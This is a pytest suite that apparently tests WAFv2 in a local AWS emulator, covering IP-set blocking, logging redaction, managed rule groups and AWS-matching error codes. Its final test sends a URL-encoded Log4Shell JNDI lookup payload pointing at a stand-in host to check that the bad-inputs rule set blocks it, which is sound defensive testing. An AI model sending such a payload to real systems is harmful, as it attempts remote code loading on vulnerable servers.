"""WAFv2 over the wire: what is made takes effect at the gateway, what is wrong is refused as AWS refuses it."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import requests
from botocore.exceptions import ClientError

from localaws_testing.aws import Aws

VISIBLE = {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True}
LISTED = "127.0.0.66/32"


def block_listed(arn: str) -> list[dict[str, Any]]:
    """Return a rule that answers clients at listed addresses with a marked 403."""
    response = {"ResponseCode": 403, "ResponseHeaders": [{"Name": "x-blocked-by", "Value": "list"}]}
    return [
        {
            "Name": "listed",
            "Priority": 0,
            "Statement": {"IPSetReferenceStatement": {"ARN": arn}},
            "Action": {"Block": {"CustomResponse": response}},
            "VisibilityConfig": {**VISIBLE, "MetricName": "listed"},
        }
    ]


@pytest.fixture
def stage(aws: Aws, unique: Callable[[str], str]) -> tuple[str, str]:
    """Deploy an API that answers 200 by itself; return its stage's ARN and URL."""
    client = aws.client("apigateway")
    api = client.create_rest_api(name=unique("api"))["id"]
    root = client.get_resources(restApiId=api)["items"][0]["id"]
    method = {"restApiId": api, "resourceId": root, "httpMethod": "GET"}
    client.put_method(**method, authorizationType="NONE")
    client.put_integration(**method, type="MOCK", requestTemplates={"application/json": '{"statusCode": 200}'})
    client.put_method_response(**method, statusCode="200")
    client.put_integration_response(**method, statusCode="200")
    client.create_deployment(restApiId=api, stageName="prod")
    return (
        f"arn:aws:apigateway:us-east-1::/restapis/{api}/stages/prod",
        f"{aws.ready['gateway_url']}/_aws/execute-api/{api}/prod/",
    )


@pytest.fixture
def ip_set(aws: Aws, unique: Callable[[str], str]) -> str:
    """Make a set of one address; return its ARN."""
    made = aws.client("wafv2").create_ip_set(
        Name=unique("set"), Scope="REGIONAL", IPAddressVersion="IPV4", Addresses=[LISTED]
    )
    return str(made["Summary"]["ARN"])


def make_acl(aws: Aws, name: str, rules: list[dict[str, Any]]) -> dict[str, Any]:
    """Make a web ACL that allows by default."""
    made: dict[str, Any] = aws.client("wafv2").create_web_acl(
        Name=name,
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=rules,
        VisibilityConfig={**VISIBLE, "MetricName": name},
    )["Summary"]
    return made


def ask(aws: Aws, url: str, source: str = "127.0.0.1") -> requests.Response:
    """Send a request from an address of this machine."""
    with requests.Session() as session:
        adapter = requests.adapters.HTTPAdapter()
        adapter.init_poolmanager(1, 1, source_address=(source, 0))
        session.mount("https://", adapter)
        return session.get(url, verify=aws.ready["ca_bundle"], timeout=10)


def blocked_requests(aws: Aws, acl: str, rule: str, window: dict[str, datetime]) -> float:
    """Return the metric of what a rule blocked."""
    dimensions = {"WebACL": acl, "Rule": rule, "Region": "us-east-1"}
    points = aws.client("cloudwatch").get_metric_statistics(
        Namespace="AWS/WAFV2",
        MetricName="BlockedRequests",
        Dimensions=[{"Name": key, "Value": value} for key, value in dimensions.items()],
        **window,
        Period=3600,
        Statistics=["Sum"],
    )["Datapoints"]
    return float(sum(point["Sum"] for point in points))


def refused(call: Callable[[], Any]) -> str:
    """Return the error code that a call is refused with."""
    with pytest.raises(ClientError) as caught:
        call()
    return str(caught.value.response["Error"]["Code"])


def test_a_listed_client_is_blocked_and_told_by_a_mark(
    aws: Aws, unique: Callable[[str], str], stage: tuple[str, str], ip_set: str
) -> None:
    """By its real source address, with the custom response; others pass; metrics, samples and logs tell of it."""
    arn, url = stage
    waf, name = aws.client("wafv2"), unique("acl")
    acl = make_acl(aws, name, block_listed(ip_set))
    group = f"aws-waf-logs-{name}"
    aws.client("logs").create_log_group(logGroupName=group)
    waf.put_logging_configuration(
        LoggingConfiguration={
            "ResourceArn": acl["ARN"],
            "LogDestinationConfigs": [f"arn:aws:logs:us-east-1:123456789012:log-group:{group}"],
            "RedactedFields": [{"SingleHeader": {"Name": "user-agent"}}],
        }
    )
    assert ask(aws, url, "127.0.0.66").status_code == 200
    waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=arn)
    blocked = ask(aws, url, "127.0.0.66")
    assert (blocked.status_code, blocked.headers["x-blocked-by"]) == (403, "list")
    assert ask(aws, url).status_code == 200

    now = datetime.fromisoformat(aws.advance(0)).astimezone(UTC)
    window = {"StartTime": now - timedelta(hours=1), "EndTime": now + timedelta(minutes=1)}
    sampled = waf.get_sampled_requests(
        WebAclArn=acl["ARN"], RuleMetricName="listed", Scope="REGIONAL", TimeWindow=window, MaxItems=10
    )["SampledRequests"]
    assert [each["Request"]["ClientIP"] for each in sampled] == ["127.0.0.66"]
    events = aws.client("logs").filter_log_events(logGroupName=group)["events"]
    records = [json.loads(event["message"]) for event in events]
    assert [record["action"] for record in records] == ["BLOCK", "ALLOW"]
    agents = [h["value"] for r in records for h in r["httpRequest"]["headers"] if h["name"].lower() == "user-agent"]
    assert set(agents) == {"REDACTED"}
    assert blocked_requests(aws, name, "listed", window) == 1


def test_changes_of_a_set_and_of_an_acl_take_effect(
    aws: Aws, unique: Callable[[str], str], stage: tuple[str, str], ip_set: str
) -> None:
    """A freed address passes; an ACL is replaced whole; disassociated, nothing is asked."""
    arn, url = stage
    waf, name = aws.client("wafv2"), unique("acl")
    acl = make_acl(aws, name, block_listed(ip_set))
    waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=arn)
    assert ask(aws, url, "127.0.0.66").status_code == 403
    set_name, set_id = ip_set.split("/")[-2:]
    held = waf.get_ip_set(Name=set_name, Scope="REGIONAL", Id=set_id)
    waf.update_ip_set(Name=set_name, Scope="REGIONAL", Id=set_id, Addresses=[], LockToken=held["LockToken"])
    assert ask(aws, url, "127.0.0.66").status_code == 200
    held = waf.get_web_acl(Name=name, Scope="REGIONAL", Id=acl["Id"])
    waf.update_web_acl(
        Name=name, Scope="REGIONAL", Id=acl["Id"], DefaultAction={"Block": {}}, Rules=[],
        VisibilityConfig={**VISIBLE, "MetricName": name}, LockToken=held["LockToken"],
    )  # fmt: skip
    assert waf.get_web_acl(Name=name, Scope="REGIONAL", Id=acl["Id"])["WebACL"]["Rules"] == []
    answer = ask(aws, url)
    assert (answer.status_code, answer.json()) == (403, {"message": "Forbidden"})
    assert answer.headers["x-amzn-ErrorType"] == "ForbiddenException"
    waf.disassociate_web_acl(ResourceArn=arn)
    assert ask(aws, url).status_code == 200


def test_the_reputation_list_is_seeded_by_a_documented_call(
    aws: Aws, unique: Callable[[str], str], stage: tuple[str, str]
) -> None:
    """AWS fills its list by itself; here a POST does, and the managed group blocks who stands on it."""
    arn, url = stage
    statement = {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList"}}
    visible = {**VISIBLE, "MetricName": "reputation"}
    rule = {
        "Name": "ip",
        "Priority": 0,
        "Statement": statement,
        "OverrideAction": {"None": {}},
        "VisibilityConfig": visible,
    }
    acl = make_acl(aws, unique("acl"), [rule])
    aws.client("wafv2").associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=arn)
    page = aws.page("reputation")
    assert ask(aws, url, "127.0.0.67").status_code == 200
    try:
        seed = {"list": "AWSManagedIPReputationList", "addresses": ["127.0.0.67/32"]}
        assert requests.post(page, json=seed, timeout=10).json()["AWSManagedIPReputationList"] == ["127.0.0.67/32"]
        assert ask(aws, url, "127.0.0.67").status_code == 403
    finally:
        requests.post(page, json={"list": "AWSManagedIPReputationList", "addresses": []}, timeout=10)
    assert requests.post(page, json={"list": "nobody's"}, timeout=10).status_code == 400


def test_what_is_wrong_is_refused_as_aws_refuses_it(
    aws: Aws, unique: Callable[[str], str], stage: tuple[str, str], ip_set: str
) -> None:
    """Duplicate priorities and names, unknown stages, used sets and associated ACLs."""
    waf, name = aws.client("wafv2"), unique("acl")
    rules = block_listed(ip_set)
    twice = [*rules, {**rules[0], "Name": "again"}]
    assert refused(lambda: make_acl(aws, name, twice)) == "WAFInvalidParameterException"
    acl = make_acl(aws, name, rules)
    assert refused(lambda: make_acl(aws, name, rules)) == "WAFDuplicateItemException"
    nowhere = "arn:aws:apigateway:us-east-1::/restapis/nosuch/stages/prod"
    assert (
        refused(lambda: waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=nowhere))
        == "WAFNonexistentItemException"
    )
    waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage[0])
    token = waf.get_web_acl(Name=name, Scope="REGIONAL", Id=acl["Id"])["LockToken"]
    assert (
        refused(lambda: waf.delete_web_acl(Name=name, Scope="REGIONAL", Id=acl["Id"], LockToken=token))
        == "WAFAssociatedItemException"
    )
    set_name, set_id = ip_set.split("/")[-2:]
    token = waf.get_ip_set(Name=set_name, Scope="REGIONAL", Id=set_id)["LockToken"]
    assert (
        refused(lambda: waf.delete_ip_set(Name=set_name, Scope="REGIONAL", Id=set_id, LockToken=token))
        == "WAFAssociatedItemException"
    )
    assert waf.list_resources_for_web_acl(WebACLArn=acl["ARN"], ResourceType="API_GATEWAY")["ResourceArns"] == [
        stage[0]
    ]


@pytest.mark.parametrize("address", ["127.0.0.1", "0.0.0.0/0", "nonsense/8"])
def test_a_set_takes_cidr_ranges_alone(aws: Aws, unique: Callable[[str], str], address: str) -> None:
    """https://docs.aws.amazon.com/waf/latest/APIReference/API_CreateIPSet.html : CIDR notation, any range but /0."""
    make = aws.client("wafv2").create_ip_set
    named = {"Name": unique("set"), "Scope": "REGIONAL", "IPAddressVersion": "IPV4"}
    assert refused(lambda: make(**named, Addresses=[address])) == "WAFInvalidParameterException"


def test_capacity_and_managed_groups_are_told(aws: Aws, ip_set: str) -> None:
    """An IP set costs 1, the common rule set 700; the groups are listed with their rules."""
    waf = aws.client("wafv2")
    assert waf.check_capacity(Scope="REGIONAL", Rules=block_listed(ip_set))["Capacity"] == 1
    listed = {each["Name"] for each in waf.list_available_managed_rule_groups(Scope="REGIONAL")["ManagedRuleGroups"]}
    assert "AWSManagedRulesKnownBadInputsRuleSet" in listed
    told = waf.describe_managed_rule_group(VendorName="AWS", Name="AWSManagedRulesCommonRuleSet", Scope="REGIONAL")
    assert told["Capacity"] == 700
    assert {"Name": "NoUserAgent_HEADER", "Action": {"Block": {}}} in told["Rules"]


def test_data_protection_is_kept_and_holds(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
    """What a web ACL is told to protect is shown again, and is in no sample."""
    client, name = aws.client("wafv2"), unique("acl")
    field = {"FieldType": "SINGLE_HEADER", "FieldKeys": ["x-api-key"]}
    config = {"DataProtections": [{"Field": field, "Action": "SUBSTITUTION"}]}
    made = client.create_web_acl(
        Name=name,
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=[],
        VisibilityConfig={**VISIBLE, "MetricName": name},
        DataProtectionConfig=config,
    )["Summary"]
    shown = client.get_web_acl(Name=name, Scope="REGIONAL", Id=made["Id"])["WebACL"]
    assert shown["DataProtectionConfig"] == config
    client.associate_web_acl(WebACLArn=made["ARN"], ResourceArn=stage[0])
    requests.get(stage[1], headers={"x-api-key": "a-key-of-no-system"}, verify=aws.ready["ca_bundle"], timeout=10)
    now = datetime.fromisoformat(aws.advance(0)).astimezone(UTC)
    window = {"StartTime": now - timedelta(minutes=5), "EndTime": now + timedelta(minutes=5)}
    sampled = client.get_sampled_requests(
        WebAclArn=made["ARN"], RuleMetricName="ALL", Scope="REGIONAL", TimeWindow=window, MaxItems=10
    )["SampledRequests"]
    assert "REDACTED" in str(sampled)
    assert "a-key-of-no-system" not in str(sampled)


def test_a_deleted_stage_leaves_its_web_acl(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
    """A stage of the same name that is made later is not protected by it."""
    acl = make_acl(aws, unique("acl"), [])
    aws.client("wafv2").associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage[0])
    api = stage[0].split("/")[2]
    aws.client("apigateway").delete_stage(restApiId=api, stageName="prod")
    aws.client("apigateway").create_deployment(restApiId=api, stageName="prod")
    assert "webAclArn" not in aws.client("apigateway").get_stage(restApiId=api, stageName="prod")
    found = aws.client("wafv2").list_resources_for_web_acl(WebACLArn=acl["ARN"], ResourceType="API_GATEWAY")
    assert found["ResourceArns"] == []


def test_query_strings_are_inspected(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
    """Rules on the whole query string see what the client sent."""
    rule = {
        "Name": "bad-inputs",
        "Priority": 0,
        "Statement": {
            "ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}
        },
        "OverrideAction": {"None": {}},
        "VisibilityConfig": {**VISIBLE, "MetricName": "bad-inputs"},
    }
    acl = make_acl(aws, unique("acl"), [rule])
    aws.client("wafv2").associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage[0])
    assert ask(aws, f"{stage[1]}?q=harmless").status_code == 200
    assert ask(aws, f"{stage[1]}?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D").status_code == 403
